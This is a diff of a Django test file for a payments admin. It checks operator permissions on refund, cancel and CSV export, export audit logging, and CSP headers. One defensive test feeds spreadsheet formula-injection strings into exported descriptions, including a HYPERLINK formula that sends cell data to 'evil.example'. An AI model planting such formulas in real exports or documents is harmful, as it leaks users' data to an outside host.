@@ -1,18 +1,25 @@
-"""The operators' admin: pages, actions through services, CSV export, dashboard, login."""
+"""The operators' admin: pages, actions through services, CSV export, dashboard, login,
+and what operators with partial permissions may (not) do."""
 
 import csv
 import io
+import logging
 
 import pytest
 from django.contrib.admin.models import LogEntry
+from django.contrib.admin.sites import site
+from django.core.exceptions import PermissionDenied
 from django.core.management import call_command
+from django.test import RequestFactory
 
-from accounts.models import ApiKey, hash_secret
 from payments.models import Payment
+from payments.services import payment_create
 from refunds.models import Refund
+from tests.accounts.staff import VIEW_ONLY, staff_user
 from tests.conftest import PAYMENT_BODY
 
 CHANGELIST = "/admin/payments/payment/"
+EXPORT = f"{CHANGELIST}export/"
 
 
 @pytest.fixture
@@ -23,10 +30,33 @@ def staff(client, django_user_model, demo):
     return client
 
 
+@pytest.fixture
+def operator(client, django_user_model, demo):
+    """Log in a staff user holding the view permissions plus the ones named."""
+
+    def log_in(*perms):
+        client.user = staff_user(django_user_model, "operator", *VIEW_ONLY, *perms)
+        client.force_login(client.user)
+        return client
+
+    return log_in
+
+
 def action(client, name, payments, **extra):
     return client.post(CHANGELIST, {"action": name,
                                     "_selected_action": [p.pk for p in payments], **extra},
                        follow=True)
+
+
+def offered_actions(client, url=CHANGELIST) -> set[str]:
+    response = client.get(url)
+    assert response.status_code == 200
+    form = response.context["action_form"]
+    return {name for name, _ in form.fields["action"].choices if name} if form else set()
+
+
+def csv_rows(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
 
 
 def test_list_shows_amount_status_method_customer(staff, create_payment):
@@ -146,21 +176,6 @@ def test_dashboard_on_the_admin_index(staff, create_payment, completed_payment):
     assert "https://" not in html.split('id="payments-dashboard"')[1].split("</svg>")[0]
 
 
-def test_api_key_admin_shows_the_secret_once_then_its_prefix(staff, demo):
-    response = staff.post("/admin/accounts/apikey/add/", {
-        "account": demo.pk, "name": "Ops key", "scopes": ["payments:read"],
-    }, follow=True)
-    [message] = [str(m) for m in response.context["messages"] if "Secret" in str(m)]
-    secret = message.split(": ")[1].split(" ")[0]
-    key = ApiKey.objects.get(name="Ops key")
-    assert key.secret_hash == hash_secret(secret)
-    listing = staff.get("/admin/accounts/apikey/").content.decode()
-    assert secret not in listing and f"{key.secret_prefix}…" in listing
-    staff.post("/admin/accounts/apikey/", {"action": "revoke", "_selected_action": [key.pk]})
-    key.refresh_from_db()
-    assert not key.is_active
-
-
 @pytest.mark.parametrize("url", [
     "/admin/", CHANGELIST, "/admin/refunds/refund/", "/admin/webhooks_app/webhookendpoint/",
     "/admin/webhooks_app/event/", "/admin/webhooks_app/delivery/", "/admin/accounts/apikey/",
@@ -202,3 +217,112 @@ def test_pages_at_10000_payments(staff, django_assert_max_num_queries, capsys):
     with capsys.disabled():
         print(f"\n[admin at 10,000 payments] list: {listing} queries, index+dashboard: "
               f"{dashboard} queries")
+
+
+# --- operators with partial permissions -------------------------------------------------------
+MONEY_ACTIONS = [
+    ("refund", {"apply": "1", "amount": ""}),
+    ("cancel", {}),
+    ("export_selected", {}),
+]
+
+
+def test_view_only_staff_sees_payments_but_cannot_act_or_export(operator, completed_payment):
+    viewer = operator()
+    assert viewer.get(f"{CHANGELIST}{completed_payment.pk}/change/").status_code == 200
+    assert offered_actions(viewer) == set()
+    assert "export-csv" not in viewer.get(CHANGELIST).content.decode()
+    assert viewer.get(EXPORT).status_code == 403
+    for name, extra in MONEY_ACTIONS:
+        assert action(viewer, name, [completed_payment], **extra).status_code == 403, name
+    completed_payment.refresh_from_db()
+    assert (completed_payment.status, completed_payment.refunded_minor) == ("completed", 0)
+    assert not Refund.objects.exists() and not LogEntry.objects.exists()
+
+
+def test_staff_without_any_permission_cannot_export(client, django_user_model, demo,
+                                                    completed_payment):
+    client.force_login(staff_user(django_user_model, "nobody"))
+    assert client.get(EXPORT).status_code == 403
+    assert client.get(CHANGELIST).status_code == 403
+
+
+@pytest.mark.parametrize(("perm", "allowed"), [
+    ("refunds.refund_payment", "refund"),
+    ("payments.cancel_payment", "cancel"),
+    ("payments.export_payment", "export_selected"),
+])
+def test_each_action_needs_its_own_permission(operator, demo, perm, allowed):
+    staff = operator(perm)
+    assert offered_actions(staff) == {allowed}
+    completed = payment_create(account=demo, amount_minor=10000, currency="USD")
+    pending = payment_create(account=demo, amount_minor=10000, currency="USD",
+                             payment_method="bank_transfer")
+    # Each action is tried on a payment it could act on, so a refusal is the permission's.
+    target = {"refund": completed, "cancel": pending, "export_selected": completed}
+    for name, extra in MONEY_ACTIONS:
+        response = action(staff, name, [target[name]], **extra)
+        assert response.status_code == (200 if name == allowed else 403), name
+    completed.refresh_from_db()
+    pending.refresh_from_db()
+    assert (completed.status, pending.status) == {
+        "refund": ("refunded", "pending"), "cancel": ("completed", "cancelled"),
+        "export_selected": ("completed", "pending"),
+    }[allowed]
+
+
+@pytest.mark.parametrize("name", ["refund", "cancel", "export_selected"])
+def test_the_actions_check_their_permission_themselves(django_user_model, completed_payment,
+                                                       name):
+    """Whoever calls an action (not only the change list's form) meets the permission check."""
+    request = RequestFactory().post(CHANGELIST)
+    request.user = staff_user(django_user_model, "viewer", *VIEW_ONLY)
+    modeladmin = site.get_model_admin(Payment)
+    with pytest.raises(PermissionDenied):
+        getattr(modeladmin, name)(request, Payment.objects.all())
+    completed_payment.refresh_from_db()
+    assert completed_payment.status == "completed"
+
+
+def test_export_is_logged_with_the_user_and_the_row_count(operator, create_payment, caplog):
+    create_payment(amount=13.00)
+    create_payment(currency="EUR")
+    staff = operator("payments.export_payment")
+    assert "export-csv" in staff.get(CHANGELIST).content.decode()
+    with caplog.at_level(logging.INFO, logger="payments.admin"):
+        filtered = csv_rows(staff.get(f"{EXPORT}?currency__exact=EUR"))
+        selected = csv_rows(action(staff, "export_selected", Payment.objects.all()))
+    assert len(filtered) == 2 and len(selected) == 3
+    records = [r.getMessage() for r in caplog.records if r.name == "payments.admin"]
+    assert records == [
+        f"operator (user id {staff.user.pk}) exported 1 payments as CSV "
+        "(the list's filter and search)",
+        f"operator (user id {staff.user.pk}) exported 2 payments as CSV (selected rows)",
+    ]
+
+
+@pytest.mark.parametrize("text", [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)",
+    "\t=1+2", "\r=1+2",
+])
+def test_export_neutralises_spreadsheet_formulas(staff, demo, text):
+    formula = payment_create(account=demo, amount_minor=4999, currency="USD", description=text)
+    plain = payment_create(account=demo, amount_minor=100, currency="USD",
+                           description="Plain - text")
+    header, *rows = csv_rows(staff.get(EXPORT))
+    rows = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
+    assert rows[formula.public_id]["description"] == f"'{text}"
+    assert rows[plain.public_id]["description"] == "Plain - text"
+    assert rows[formula.public_id]["amount"] == "49.99"  # amounts stay numbers
+    assert rows[formula.public_id]["refunded_amount"] == "0.00"
+
+
+def test_admin_pages_send_a_content_security_policy(staff, client):
+    policy = staff.get(CHANGELIST)["Content-Security-Policy"]
+    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
+    assert directives["script-src"] == "'self'"
+    assert directives["default-src"] == "'self'" and directives["object-src"] == "'none'"
+    assert directives["frame-ancestors"] == "'none'"
+    assert "Content-Security-Policy" in client.get("/admin/login/")
+    docs = client.get("/api/redoc/")["Content-Security-Policy"]
+    assert "worker-src 'self' blob:" in docs  # the docs pages keep their own policy
